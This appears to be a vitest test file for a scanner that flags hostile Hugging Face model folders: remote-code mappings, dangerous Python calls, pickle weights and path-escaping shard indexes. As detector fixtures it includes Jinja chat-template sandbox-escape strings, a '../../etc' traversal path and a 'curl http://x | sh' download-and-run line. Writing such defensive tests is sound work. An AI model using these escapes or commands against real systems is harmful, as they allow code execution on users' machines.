import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS } from '../../limits/index.js';
import type { FileTree } from '../../../test-fixtures/hf-builder.js';
import { benignHfFolder, ESCAPE_CHAT_TEMPLATE, hostileHfFolder, tinyPickle, tinySafetensors, writeTree } from '../../../test-fixtures/hf-builder.js';
import { ruleIds } from '../../../test-fixtures/safetensors-builder.js';
import { analyzeModelFolder, isPickleBasedFormat, productionPolicyFinding, scanPython } from './index.js';

const root = mkdtempSync(join(tmpdir(), 'bulwark-hf-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let n = 0;

function analyze(tree: FileTree, limits = DEFAULT_LIMITS) {
  const dir = join(root, `f${n++}`);
  const files = writeTree(dir, tree);
  const findings = analyzeModelFolder(dir, files, limits);
  return { dir, findings, ids: ruleIds(findings) };
}

describe('Hugging Face folders', () => {
  it('pass an ordinary folder clean', () => {
    expect(analyze(benignHfFolder()).findings).toEqual([]);
  });

  it('report every finding of the hostile demo folder', () => {
    const r = analyze(hostileHfFolder());
    expect(r.ids).toEqual([
      'huggingface/chat-template-injection',
      'huggingface/dangerous-remote-code',
      'huggingface/pickle-weights-alongside-safetensors',
      'huggingface/trust-remote-code',
    ]);
    const trc = r.findings.filter((f) => f.ruleId === 'huggingface/trust-remote-code').map((f) => f.message);
    expect(trc.some((m) => m.includes('modeling_demo.py'))).toBe(true);
    expect(trc.some((m) => m.includes('ANOTHER repository "someone/other-repo"'))).toBe(true);
    const code = r.findings.filter((f) => f.ruleId === 'huggingface/dangerous-remote-code');
    // os.system and subprocess in modeling_demo.py (with lines), urlopen in helpers.py (a relative import).
    expect(code.map((f) => `${f.location.kind === 'file' ? `${f.location.path.split('/').pop()}:${f.location.line}` : ''}`)).toEqual(
      expect.arrayContaining(['modeling_demo.py:3', 'modeling_demo.py:13', 'modeling_demo.py:14', 'helpers.py:5']),
    );
    expect(code.some((f) => f.message.includes('comment'))).toBe(false);
  });

  it('check auto_map lists (tokenizers), custom pipelines, diffusers components and PEFT auto_mapping', () => {
    const r = analyze({
      'tokenizer_config.json': JSON.stringify({ auto_map: { AutoTokenizer: ['tok.SlowTok', null] } }),
      'tok.py': 'import subprocess as sp\nsp.call(["echo", "x"])\n',
      'config.json': JSON.stringify({ custom_pipelines: { 'text-gen': { impl: 'pipe.MyPipe', pt: ['AutoModel'] } } }),
      'model_index.json': JSON.stringify({ _class_name: ['pipeline_x', 'XPipeline'], unet: ['my_unet', 'MyUNet'], vae: ['diffusers', 'AutoencoderKL'] }),
      'unet/my_unet.py': 'x = eval("1+1")\n',
      'adapter_config.json': JSON.stringify({ auto_mapping: { base_model_class: 'X', parent_library: 'evil_lib.models' } }),
    });
    const msgs = r.findings.map((f) => f.message).join('\n');
    expect(msgs).toContain('tok.py');
    expect(msgs).toContain('pipe.py (the file is missing');
    expect(msgs).toContain('pipeline_x.py');
    expect(msgs).toContain('unet/my_unet.py');
    expect(msgs).toContain('evil_lib.models');
    expect(msgs).toContain('calls subprocess through the alias sp');
    expect(msgs).toContain('evaluates a string as code (eval)');
  });

  it('check chat templates in tokenizer_config.json (string and named list), chat_template.jinja and chat_template.json', () => {
    const r = analyze({
      'tokenizer_config.json': JSON.stringify({ chat_template: [{ name: 'default', template: '{{ x }}' }, { name: 'tool_use', template: "{{ ()|attr('__cla' ~ 'ss__') }}" }] }),
      'chat_template.jinja': `{{ messages }}\n{{ ${ESCAPE_CHAT_TEMPLATE.slice(3)}`,
      'chat_template.json': JSON.stringify({ chat_template: '{{ lipsum.__globals__ }}' }),
    });
    expect(r.ids).toEqual(['huggingface/chat-template-injection']);
    const files = new Set(r.findings.map((f) => (f.location.kind === 'file' ? f.location.path.split('/').pop() : '')));
    expect(files).toEqual(new Set(['tokenizer_config.json', 'chat_template.jinja', 'chat_template.json']));
    const jinjaLine = r.findings.find((f) => f.location.kind === 'file' && f.location.path.endsWith('.jinja') && f.evidence?.endsWith('__init__') === true);
    expect(jinjaLine?.location.kind === 'file' && jinjaLine.location.line).toBe(2);
  });

  it('report pickle weights next to safetensors, not alone, not training state', () => {
    expect(analyze({ 'model.safetensors': tinySafetensors(), 'pytorch_model.bin': tinyPickle() }).ids).toEqual(['huggingface/pickle-weights-alongside-safetensors']);
    expect(analyze({ 'pytorch_model.bin': tinyPickle() }).findings).toEqual([]);
    expect(analyze({ 'model.safetensors': tinySafetensors(), 'training_args.bin': tinyPickle() }).findings).toEqual([]);
  });

  it('report shard indexes that leave the folder', () => {
    const r = analyze({ 'model.safetensors.index.json': JSON.stringify({ weight_map: { a: 'model-00001.safetensors', b: '../../etc/x.bin', c: '/abs/p.bin' } }) });
    expect(r.ids).toEqual(['huggingface/shard-index-path']);
    expect(r.findings).toHaveLength(2);
  });

  it('report malformed configs and duplicate keys (the loader keeps the last auto_map)', () => {
    const r = analyze({ 'config.json': '{"auto_map": {"AutoModel": "a.B"}, "auto_map": {"AutoModel": "c.D"}}', 'tokenizer_config.json': '{"chat_template": ' });
    expect(r.ids).toEqual(['huggingface/malformed-config', 'huggingface/trust-remote-code']);
    expect(r.findings.find((f) => f.ruleId === 'huggingface/trust-remote-code')?.evidence).toBe('c.D');
  });

  it('treat oversized files as unchecked, not clean', () => {
    const r = analyze({ 'tokenizer_config.json': JSON.stringify({ chat_template: '{{ x }}'.repeat(100) }) }, { ...DEFAULT_LIMITS, maxTextBytes: 100 });
    expect(r.ids).toEqual(['huggingface/malformed-config']);
    expect(r.findings[0]?.message).toContain('not checked');
  });
});

describe('Python tripwire', () => {
  it('ignores comments, docstrings, method calls named eval and definitions', () => {
    const src = '"""Use os.system(\'x\') carefully."""\n# subprocess.run(x)\nmodel.eval()\ndef eval(self):\n    pass\nx = re.compile("a")\n';
    expect(scanPython(src).issues).toEqual([]);
  });

  it('finds aliases, from-imports and download-and-run strings', () => {
    const src = 'from os import system as s\ns("id")\nimport torch\ntorch.load(p)\ntorch.load(p, weights_only=True)\ncmd = "curl http://x | sh"\n';
    const what = scanPython(src).issues.map((i) => `${i.line}:${i.what}`);
    expect(what).toEqual(['1:imports os.system', '2:calls os.system', '4:loads a pickle with torch.load (without weights_only=True)', '6:contains a shell download-and-run command']);
  });

  it('never throws on arbitrary input (property)', () => {
    fc.assert(fc.property(fc.string({ maxLength: 300 }), (s) => void scanPython(s)), { numRuns: 300 });
  });
});

describe('production policy', () => {
  it('flags pickle-based formats only under the production policy', () => {
    const loc = { kind: 'file', path: 'm.bin' } as const;
    expect(isPickleBasedFormat('pytorch-zip')).toBe(true);
    expect(isPickleBasedFormat('safetensors')).toBe(false);
    expect(productionPolicyFinding('production', 'pickle', loc)?.ruleId).toBe('policy/pickle-weights');
    expect(productionPolicyFinding('default', 'pickle', loc)).toBeUndefined();
    expect(productionPolicyFinding('production', 'onnx', loc)).toBeUndefined();
  });
});
